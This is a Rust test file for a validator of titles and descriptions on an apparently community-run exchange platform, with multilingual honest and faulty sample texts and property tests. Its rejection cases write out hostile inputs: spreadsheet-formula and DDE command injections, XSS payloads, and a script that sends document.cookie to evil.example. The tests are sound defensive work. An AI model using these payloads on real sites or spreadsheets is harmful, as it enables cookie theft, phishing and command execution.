//! The texts of an exchange evening, honest and faulty, and what holds for any text at all.

use proptest::prelude::*;

use super::*;

const TITLE: Bounds = Bounds::up_to(120);
const TEXT: Bounds = Bounds::optional(2_000);

fn broken<T>(parsed: Result<T, Faults>) -> Vec<Rule> {
    parsed.err().into_iter().flatten().map(|fault| fault.rule).collect()
}

type Cases<'a> = &'a [(&'a str, Result<&'a str, Vec<Rule>>)];

fn check<T: fmt::Debug + Into<String>>(parse: fn(&str) -> Result<T, Faults>, cases: Cases<'_>) {
    for (input, expected) in cases {
        let parsed = parse(input).map(Into::into).map_err(|faults| broken(Err::<(), _>(faults)));
        assert_eq!(parsed, expected.clone().map(str::to_owned), "{input:?}");
    }
}

fn check_line(cases: Cases<'_>) {
    check(|input| Line::parse(input, TITLE), cases);
}

fn check_prose(cases: Cases<'_>) {
    check(|input| Prose::parse(input, TEXT), cases);
}

#[test]
fn faulty_lines_are_refused_with_every_rule() {
    check_line(&[
        ("", Err(vec![Rule::Required])),
        (" \u{A0}\r\n", Err(vec![Rule::Required])),
        (
            "=HYPERLINK(\"https://phish.example/?c=\"&O2;\"Loupiote Games\")",
            Err(vec![Rule::SpreadsheetFormula]),
        ),
        ("=HYPERLINK(\"https://phish.example/?r=\"&A2;\"Deux tables\")", Err(vec![Rule::SpreadsheetFormula])),
        ("+2+5+cmd|' /C calc'!A0", Err(vec![Rule::SpreadsheetFormula])),
        ("#REF!", Err(vec![Rule::SpreadsheetError])),
        ("Ludothèque <img src=x onerror=\"alert(1)\"> asbl", Err(vec![Rule::Markup])),
        ("Match amical <script>alert(document.domain)</script>", Err(vec![Rule::Markup])),
        ("Traiteur \u{202E}lEuoneF\u{202C} SARL", Err(vec![Rule::BidiCharacter { code_point: 0x202E }])),
        ("Transport d'un piano \u{202E}tiord\u{202C}", Err(vec![Rule::BidiCharacter { code_point: 0x202E }])),
        ("Ciné-Club Bobine\0Folle asbl", Err(vec![Rule::NulCharacter])),
        ("Home\u{200B}work Har\u{200D}bour asbl", Err(vec![Rule::InvisibleCharacter { code_point: 0x200B }])),
        ("World\u{200B} break\u{200B}fast", Err(vec![Rule::InvisibleCharacter { code_point: 0x200B }])),
        ("\u{FEFF}Kaleido", Err(vec![Rule::InvisibleCharacter { code_point: 0xFEFF }])),
        ("Ka\u{E0041}leido", Err(vec![Rule::InvisibleCharacter { code_point: 0xE0041 }])),
        ("a\u{FE0F}b", Err(vec![Rule::InvisibleCharacter { code_point: 0xFE0F }])),
        ("a\u{85}b", Err(vec![Rule::ControlCharacter { code_point: 0x85 }])),
        ("a\u{FFFF}b", Err(vec![Rule::ControlCharacter { code_point: 0xFFFF }])),
        (
            "=1\0\u{7}\u{202E}\u{200B}<script> 5 € 1900023099999",
            Err(vec![
                Rule::NulCharacter,
                Rule::ControlCharacter { code_point: 7 },
                Rule::BidiCharacter { code_point: 0x202E },
                Rule::InvisibleCharacter { code_point: 0x200B },
                Rule::Markup,
                Rule::SpreadsheetFormula,
                Rule::Money { found: "5 €".to_owned() },
                Rule::PersonalMatricule,
            ]),
        ),
    ]);
}

#[test]
fn faulty_prose_is_refused() {
    let money = |found: &str| Err(vec![Rule::Money { found: found.to_owned() }]);
    check_prose(&[
        ("@SUM(1+1)*cells(2,15)", Err(vec![Rule::SpreadsheetFormula])),
        (
            "Mir röschten all Mëttwoch.<script>fetch('https://evil.example/?c='+document.cookie)</script>",
            Err(vec![Rule::Markup]),
        ),
        ("<img src=x onerror=alert(1)> Zwei Personen für einen Vormittag.", Err(vec![Rule::Markup])),
        ("Escaliers et\u{7} meubles\u{B} sur mesure.", Err(vec![Rule::ControlCharacter { code_point: 7 }])),
        ("Par lots\0 de dix, nettoyés.", Err(vec![Rule::NulCharacter])),
        ("Holzspillsaachen no Mooss, 50 EUR/h plus Material.", money("50 EUR/h")),
        ("Trois personnes habituées, 50 EUR/h par déménageur.", money("50 EUR/h")),
        ("Anything that does not leak, we pay up to €15 each.", money("€15")),
        ("Un virement de 120,- sur notre compte", money("120,-")),
        (
            "Conversations for people in mourning. Contact person's number: 1900023099999.",
            Err(vec![Rule::PersonalMatricule]),
        ),
    ]);
}

#[test]
fn honest_lines_are_kept() {
    check_line(&[
        ("Serrurerie du Pêne SARL   ", Ok("Serrurerie du Pêne SARL")),
        ("  E Beamer fir de Kinosowend \t ", Ok("E Beamer fir de Kinosowend")),
        ("Second Breakfast\r\nClub asbl", Ok("Second Breakfast Club asbl")),
        ("Liesha\u{308}ischen asbl", Ok("Lieshäischen asbl")),
        (
            "Velo Kurier Pedalritter 🚴\u{200D}♀\u{FE0F} SARL",
            Ok("Velo Kurier Pedalritter 🚴\u{200D}♀\u{FE0F} SARL"),
        ),
        (
            "👩🏽\u{200D}🔬 ⛹\u{FE0F}\u{200D}♀\u{FE0F} 1\u{FE0F}\u{20E3}",
            Ok("👩🏽\u{200D}🔬 ⛹\u{FE0F}\u{200D}♀\u{FE0F} 1\u{FE0F}\u{20E3}"),
        ),
        (
            "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}",
            Ok("🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"),
        ),
        ("CafÃ© CrÃ¨me", Ok("CafÃ© CrÃ¨me")),
        ("Jugendh\u{430}us K\u{430}leid\u{43E} asbl", Ok("Jugendh\u{430}us K\u{430}leid\u{43E} asbl")),
        ("Pli & Pente Architectes, société civile", Ok("Pli & Pente Architectes, société civile")),
        ("Ist unser Saal barrierefrei?", Ok("Ist unser Saal barrierefrei?")),
        ("Transport d'un piano droit (2)", Ok("Transport d'un piano droit (2)")),
        (
            "Atelier : repérer les violences, réagir au travail",
            Ok("Atelier : repérer les violences, réagir au travail"),
        ),
        ("Conseils pour tenir un budget familial", Ok("Conseils pour tenir un budget familial")),
        ("Refurbished 14-inch laptops", Ok("Refurbished 14-inch laptops")),
        ("Prêt pour familles < 18 ans <3", Ok("Prêt pour familles < 18 ans <3")),
        ("- noon: we explain", Ok("- noon: we explain")),
    ]);
}

#[test]
fn honest_prose_is_kept() {
    let honest = [
        "Jardin partagé de 1 400 m², 60 familles, une mare et un four à pain.",
        "Oppent Haus fir Jonker vun 12 bis 26: Musek, Foto, Hausaufgaben a vill Pizza.",
        "Deux places en fauteuil et six assises. Nous demandons seulement une participation au carburant au-delà de 60 km.",
        "Une participation au carburant peut être convenue.",
        "Three countries, two currencies, one tired treasurer. We need somebody to read the accounts.",
        "Armoires grises à deux tiroirs, clés présentes. À enlever au rez-de-chaussée, 45 kg pièce.",
        "Eise Logo ass vun 2003 an dat gesäit een.",
        "De 14. Juni feiere mir am Haff hannert dem Schapp. Véierzeg Stécker wieren dat Richtegt.",
        "Wir sagen „ja“, unsere Gäste im Rollstuhl sagen „nein“.",
        "One manager wrote afterwards: \"I have never been corrected so kindly.\"",
        "Parking, lockers, stopwatches.\n- noon: we explain everything\n- four o'clock: we feed everyone",
        "Für bis zu zehn Personen; Briefing à 8 h 30, 24 maillots, tailles 128 à 164.",
        "Bitte direkt an yoga@neieschrett.example schreiben.",
        "",
    ];
    for text in honest {
        check_prose(&[(text, Ok(text))]);
    }
}

#[test]
fn bounds_count_characters() {
    let line = |text: &str, bounds| broken(Line::parse(text, bounds));
    assert_eq!(line("äöü", Bounds::up_to(3)), []);
    assert_eq!(line("a\u{308}bc", Bounds::up_to(3)), []);
    assert_eq!(line("äöüß", Bounds::up_to(3)), [Rule::TooLong { max: 3 }]);
    assert_eq!(line("  äöü  ", Bounds::up_to(3)), []);
    assert_eq!(line("ab", Bounds::new(3, 9)), [Rule::TooShort { min: 3 }]);
    assert_eq!(line("", Bounds::new(3, 9)), [Rule::Required]);
    assert_eq!(line("", Bounds::optional(9)), []);
}

#[test]
fn optional_texts_are_none_when_blank() {
    assert_eq!(Line::parse_optional(" \t", TITLE), Ok(None));
    assert_eq!(Prose::parse_optional("\n\n", TEXT), Ok(None));
    assert_eq!(Line::parse_optional(" a ", TITLE), Ok(Some(Line("a".to_owned()))));
    assert_eq!(broken(Line::parse_optional("ab", Bounds::new(3, 9))), [Rule::TooShort { min: 3 }]);
    assert_eq!(broken(Prose::parse_optional("abc", Bounds::up_to(2))), [Rule::TooLong { max: 2 }]);
}

#[test]
fn notes_may_speak_of_money_and_nothing_else() {
    assert_eq!(broken(Prose::parse_note("Please take out “50 EUR/h”.", TEXT)), []);
    assert_eq!(broken(Prose::parse_note("<b>50 €</b>", TEXT)), [Rule::Markup]);
}

#[test]
fn faults_take_the_name_of_the_field() {
    let mut faults = Faults::none();
    assert_eq!(faults.take("title", Line::parse("<b>5 €</b>", TITLE)), None);
    assert_eq!(faults.to_string(), "title: markup, title: money");
}

/// Texts built from what the rules look at, so that random ones reach them.
fn tricky() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        any::<String>(),
        proptest::sample::select(vec![
            " ",
            "\t",
            "\n",
            "\r\n",
            "\u{A0}",
            "\u{2028}",
            "\u{AD}",
            "\u{301}",
            "\u{308}",
            "a",
            "e",
            "é",
            "İ",
            "ß",
            "5",
            "12",
            "€",
            "$",
            "EUR",
            "euros",
            "dix",
            ",-",
            "/h",
            "=",
            "+",
            "-",
            "@",
            "(",
            "|",
            "!",
            "<",
            "</",
            ">",
            "script",
            "LU28",
            "0019",
            "4006 4475 0000",
            "19000230",
            "99999",
            "🚴",
            "\u{200D}",
            "\u{FE0F}",
            "♀",
            "\u{202E}",
            "\u{0}",
            "Ã",
            "©",
            "ponte.example",
            "www.",
            "tel",
            "\u{430}",
            "S.A.",
            "asbl",
            "&",
            "\u{110BD}",
            "\u{1D15E}",
            "\u{FB1D}",
        ])
        .prop_map(str::to_owned),
    ];
    proptest::collection::vec(part, 0..12).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn cleaning_again_changes_nothing(text in tricky()) {
        let line = clean::line(&text);
        prop_assert_eq!(clean::line(&line), line.clone());
        let prose = clean::prose(&text);
        prop_assert_eq!(clean::prose(&prose), prose);
    }

    #[test]
    fn what_was_accepted_is_accepted_again(text in tricky()) {
        if let Ok(line) = Line::parse(&text, TITLE) {
            prop_assert_eq!(Line::parse(line.as_str(), TITLE), Ok(line));
        }
        if let Ok(prose) = Prose::parse(&text, TEXT) {
            prop_assert_eq!(Prose::parse(prose.as_str(), TEXT), Ok(prose));
        }
    }

    #[test]
    fn an_accepted_line_is_one_clean_line(text in tricky()) {
        if let Ok(line) = Line::parse(&text, TITLE) {
            let line = line.as_str();
            prop_assert!(!line.chars().any(char::is_control));
            prop_assert!(!line.contains("  "));
            prop_assert_eq!(line.trim(), line);
        }
    }

    #[test]
    fn flags_and_keys_take_any_text(text in tricky()) {
        let _ = flags(&text);
        prop_assert!(!skeleton(&text).contains(' '));
    }
}
